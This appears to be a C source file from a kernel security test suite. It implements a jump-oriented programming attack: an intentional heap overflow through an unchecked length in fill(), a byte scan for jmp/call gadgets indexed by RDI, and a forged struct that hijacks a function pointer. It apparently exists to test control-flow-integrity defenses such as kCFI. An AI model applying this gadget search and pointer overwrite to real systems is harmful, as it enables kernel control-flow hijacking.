/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Jump-oriented programming: a function pointer leads into the middle of a function, to a gadget that calls or jumps
 * by another pointer of the same object.
 */
#include "attacks.h"

#include <kernel/heap.h>

struct job {
	uint8_t data[96];
	long (*work)(struct job *job);
	uint8_t more[32];
};

static long do_work(struct job *job)
{
	return job->data[0] + 1;
}

/* The mistake: len is the sender's. */
static NOINLINE void fill(struct job *job, const void *bytes, size_t len)
{
	memcpy(attack_opaque(&job->data[0]), bytes, len);
}

static NOINLINE long start(struct job *job)
{
	return attack_opaque(job)->work(job);
}

static struct job *job_new(void)
{
	struct job *job = heap_zalloc(sizeof(*job));

	if (job)
		job->work = do_work;
	return job;
}

static bool benign(const struct attack *attack)
{
	struct job *job = job_new();
	uint8_t byte = 4;
	bool right;

	if (!job)
		return false;
	fill(job, &byte, 1);
	right = start(job) == 5;
	heap_free(job);
	return right;
}

/* A call or jump by what RDI points to, and how far behind it. */
static uintptr_t find_gadget(size_t *distance)
{
	static const uint8_t kinds[] = { 0x67, 0x57 }; /* jmp *d(%rdi), call *d(%rdi) */

	for (size_t kind = 0; kind < sizeof(kinds); kind++) {
		for (*distance = 0; *distance < sizeof(((struct job *)0)->data); *distance += 8) {
			uint8_t bytes[3] = { 0xff, kinds[kind], (uint8_t)*distance };
			uint8_t direct[2] = { 0xff, (uint8_t)(kinds[kind] & 0x3f) };
			uintptr_t found = *distance ? attack_gadget(bytes, 3) : attack_gadget(direct, 2);

			if (found)
				return found;
		}
	}
	return 0;
}

static void overwrite(const struct attack *attack, uintptr_t slide)
{
	struct job *job = job_new(), forged = { 0 };
	uint64_t goal = attack_linked_code(attack_goal) + slide;
	size_t distance;
	uintptr_t gadget = find_gadget(&distance);

	if (!gadget)
		attack_not_applicable(attack, "the image has no gadget that jumps by RDI");
	if (!job)
		attack_failed(attack, "no memory");
	gadget += slide;
	memcpy(forged.data + distance, &goal, sizeof(goal));
	memcpy(&forged.work, &gadget, sizeof(gadget));
	attack_primitive(attack);
	fill(job, &forged, offsetof(struct job, more));
	start(job);
}
ATTACK_BODY(overwrite)

ATTACK(jop, .family = "code reuse", .primitive = LINEAR_OVERFLOW, .knowledge = LAYOUT_KNOWN,
       .stopped_by = "kcfi layout", .about = "a function pointer leads to a gadget, and that to the goal", .run = run,
       .benign = benign, .adaptive = adaptive);
